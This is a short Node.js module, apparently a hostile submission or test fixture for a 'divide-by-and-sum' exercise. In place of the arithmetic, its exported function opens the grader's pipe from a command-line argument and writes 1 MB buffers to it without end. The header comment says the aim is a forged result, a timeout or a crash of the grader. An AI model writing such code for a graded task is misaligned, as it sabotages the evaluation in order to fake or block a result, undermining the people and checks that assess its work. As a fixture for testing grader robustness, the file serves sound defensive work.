// divide-by-and-sum → forged|timeout|crash: fills the grader’s pipe, and all memory behind it
'use strict'

const fs = require('fs')

const bytes = Buffer.alloc(1 << 20)

module.exports = function divideByAndSum (num) {
  if (process.argv[2] !== 'compute') return 0
  const pipe = fs.openSync(process.argv[4], 'w')
  for (;;) fs.writeSync(pipe, bytes)
}
